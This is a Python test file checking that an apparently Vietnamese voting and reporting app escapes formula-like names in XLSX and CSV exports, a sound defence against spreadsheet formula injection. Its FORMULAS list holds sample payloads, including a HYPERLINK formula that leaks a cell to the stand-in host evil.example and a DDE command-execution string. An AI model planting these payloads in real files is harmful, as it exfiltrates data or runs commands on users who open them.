"""Spreadsheet-safe exports (issue 11): a name that looks like a formula stays
text in every exported workbook, read back with openpyxl."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date

from openpyxl import Workbook, load_workbook

from services import commands as c
from services import report_documents as docs
from services.spreadsheet import append_row, csv_cell
from services.vote_rows import LeaderResultRow, VoteRow
from web.votes.exports import tally_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _no_formula(data: bytes) -> list:
    cells = _cells(data)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    return [c.value for c in cells]


def test_append_row_keeps_every_formula_looking_value_as_text():
    book = Workbook()
    append_row(book.active, [*FORMULAS, "Nguyễn Văn An", 7, None, "a\x01b"])
    out = io.BytesIO()
    book.save(out)
    values = _no_formula(out.getvalue())
    # The value is preserved (XML reads a stored carriage return back as a line feed).
    assert values[: len(FORMULAS)] == [v.replace("\r", "\n") for v in FORMULAS]
    assert values[len(FORMULAS) : len(FORMULAS) + 2] == ["Nguyễn Văn An", 7]
    assert values[-1] == "a\ufffdb"  # a character XLSX cannot hold, not a 500


def test_a_plain_openpyxl_append_would_have_made_a_formula():
    """The failure mode the helper prevents (so the tests above can fail)."""
    book = Workbook()
    book.active.append([FORMULAS[0]])
    out = io.BytesIO()
    book.save(out)
    assert [c.data_type for c in _cells(out.getvalue())] == ["f"]


def test_csv_cells_never_start_a_formula():
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(v) for v in [*FORMULAS, "An", 3, None]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
    assert row[: len(FORMULAS)] == ["'" + v for v in FORMULAS]
    assert row[len(FORMULAS) :] == ["An", "3", ""]


def test_the_report_workbook_keeps_an_organisation_named_like_a_formula(
    kiemdiem, world
):
    admin = kiemdiem.authenticate("admin", world.password("admin"))
    org = world.orgs["province"]
    kiemdiem.handle(c.RenameOrganisation(admin.actor, org, FORMULAS[0]), admin.signer)
    report = kiemdiem.reports.report(org, 2025, today=date(2025, 12, 31))
    values = _no_formula(docs.report_xlsx(report))
    assert FORMULAS[0] in values


def test_the_vote_tally_workbook_keeps_formula_names_as_text():
    vote_id = uuid.uuid4()
    vote = VoteRow(
        vote_id=vote_id,
        org_id=None,
        code="=1+2",
        organisation="@Chi bộ",
        title='=HYPERLINK("http://x")',
        vote_year=2025,
        conference_date="2025-12-01",
        mode="A",
        state="published",
        leaders=1,
        trustees=3,
        threshold=2,
        convened=10,
        present=9,
        issued=9,
        ballots=9,
        partials=2,
        short_fingerprint="-ABCD",
        abandon_reason=None,
    )
    leader = LeaderResultRow(
        vote_id=vote_id,
        leader_index=0,
        member_id=None,
        name=FORMULAS[0],
        post="+Bí thư",
        issued=9,
        returned=9,
        valid=9,
        invalid=0,
        high=5,
        normal=3,
        low=1,
        pct_high="5/9",
        pct_normal="3/9",
        pct_low="1/9",
        band="high",
    )
    values = _no_formula(tally_xlsx(vote, [leader]))
    for shown in (FORMULAS[0], "+Bí thư", "@Chi bộ", '=HYPERLINK("http://x")'):
        assert shown in values
